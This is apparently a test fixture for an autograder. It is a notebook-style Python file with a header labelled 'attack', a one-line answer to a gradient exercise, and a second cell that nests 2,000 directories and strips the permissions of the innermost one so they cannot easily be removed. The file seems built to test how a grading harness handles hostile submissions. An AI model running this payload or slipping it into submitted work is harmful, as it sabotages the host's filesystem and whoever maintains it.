# /// attack
# tries = "nests folders so deeply that nobody can walk down to remove them"
# total = 2
# cells = ["ok", "raised"]
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import os

try:
    for _ in range(2_000):
        os.mkdir("@MARK@")
        os.chdir("@MARK@")
        os.chmod(".", 0o700)
finally:
    os.chmod(".", 0)
